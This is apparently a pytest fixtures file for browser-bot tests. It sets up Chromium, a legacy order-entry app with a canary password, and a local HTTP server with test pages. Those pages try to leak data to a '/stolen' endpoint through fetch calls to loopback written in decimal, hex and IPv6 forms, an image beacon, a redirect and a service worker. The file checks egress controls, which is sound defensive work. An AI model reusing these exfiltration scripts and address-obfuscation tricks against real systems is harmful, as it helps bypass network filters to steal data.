"""Fixtures of the web bot tests: the system Chromium (skips locally when missing, fails
under CI), a warm :class:`BrowserService` per module, the legacy app with a canary password,
and a small HTTP server whose pages try to reach where they must not."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from bots.browser import BrowserService
from bots.chromium import ChromiumMissing, Found, find
from hub.settings import Settings
from hub.testing import LocalHub
from tests.conftest import need
from tests.sandbox.legacy_web import LegacyWebApp

#: The password the bots type; it must appear nowhere it could leak.
CANARY = "canary-7Qx2-Pw!z"
USER = "clerk"


@pytest.fixture(params=["sqlite"])
def db_url(request: pytest.FixtureRequest, tmp_path: Path) -> str:
    """In-process bot tests run on SQLite; the worker tests cover PostgreSQL."""
    return f"sqlite:///{tmp_path / 'hub.db'}"


def finish(hub: LocalHub, run_id: str) -> dict[str, Any]:
    """Run until the run is done or waits for review (moving the clock past retry waits)."""
    view: dict[str, Any] = {}
    for _ in range(10):
        hub.drain()
        view = hub.run(run_id)
        if view["status"] in ("succeeded", "needs_review", "failed"):
            return view
        hub.advance(30)  # a retry's backoff
    raise AssertionError(f"run {run_id} did not finish: {view}")


def succeeded(hub: LocalHub, run_id: str) -> dict[str, Any]:
    view = finish(hub, run_id)
    errors = [(st["key"], st.get("error")) for st in view["steps"]]
    assert view["status"] == "succeeded", errors
    return view


@pytest.fixture(scope="session")
def chromium() -> Found:
    try:
        return find()
    except ChromiumMissing as exc:
        need("Chromium", str(exc))
        raise


@pytest.fixture(scope="module")
def browser(chromium: Found) -> Iterator[BrowserService]:
    """One warm browser for the tests of a module, as a worker process keeps one."""
    service = BrowserService(Settings(browser_timeout_ms=5_000), chromium=chromium)
    yield service
    service.shutdown()


@pytest.fixture
def legacy(monkeypatch: pytest.MonkeyPatch) -> Iterator[LegacyWebApp]:
    """The legacy order-entry app; the example flow finds it and its password in the environment."""
    with LegacyWebApp(USER, CANARY, suggest_delay=0.3) as app:
        monkeypatch.setenv("LEGACY_WEB_URL", app.url)
        monkeypatch.setenv("HUB_SECRET_LEGACY_WEB", CANARY)
        yield app


class Site:
    """Pages on 127.0.0.1 that a bot may visit, and what each server was asked."""

    def __init__(self) -> None:
        self.hits: list[tuple[int, str]] = []
        self.servers = [self._serve() for _ in range(2)]
        self.port, self.other_port = (s.server_address[1] for s in self.servers)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def hits_on(self, port: int) -> list[str]:
        return [path for p, path in self.hits if p == port]

    def _serve(self) -> http.server.ThreadingHTTPServer:
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *_: Any) -> None:
                pass

            def do_GET(self) -> None:
                port = self.server.server_address[1]
                site.hits.append((port, self.path))
                if self.path.startswith("/redirect"):
                    target = f"http://127.0.0.1:{site.other_port}/stolen?from=redirect"
                    self.send_response(302)
                    self.send_header("Location", target)
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                    return
                body = PAGES.get(self.path.split("?")[0], "<title>plain</title><p>plain page</p>")
                data = body.replace("OTHER", str(site.other_port)).replace("SELF", str(port))
                raw = data.encode()
                ctype = "text/javascript" if self.path.endswith(".js") else "text/html"
                self.send_response(200)
                self.send_header("Content-Type", ctype)
                self.send_header("Content-Length", str(len(raw)))
                self.end_headers()
                self.wfile.write(raw)

        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        server.daemon_threads = True
        threading.Thread(target=server.serve_forever, daemon=True).start()
        return server

    def close(self) -> None:
        for server in self.servers:
            server.shutdown()
            server.server_close()


PAGES = {
    # a page script sends data to another port, and to loopback spelled other ways
    "/leaky": """<title>leaky</title><p id=done>waiting</p><script>
      const targets = ['http://127.0.0.1:OTHER/stolen?from=fetch', 'http://localhost:SELF/stolen',
                       'http://[::1]:SELF/stolen', 'http://2130706433:OTHER/stolen?from=decimal',
                       'http://0x7f000001:OTHER/stolen?from=hex'];
      Promise.allSettled(targets.map(u => fetch(u))).then(() => {
        document.getElementById('done').textContent = 'sent'; });
    </script>""",
    "/image": "<title>image</title><img src='http://127.0.0.1:OTHER/stolen.png?from=img'>",
    "/sw": """<title>sw</title><p id=sw>pending</p><script>
      navigator.serviceWorker.register('/sw.js').then(
        () => navigator.serviceWorker.getRegistrations()).then(
        regs => { document.getElementById('sw').textContent = 'registrations: ' + regs.length; },
        err => { document.getElementById('sw').textContent = 'refused: ' + err; });
    </script>""",
    "/sw.js": "self.addEventListener('fetch', e => {});",
}


@pytest.fixture
def site() -> Iterator[Site]:
    s = Site()
    yield s
    s.close()
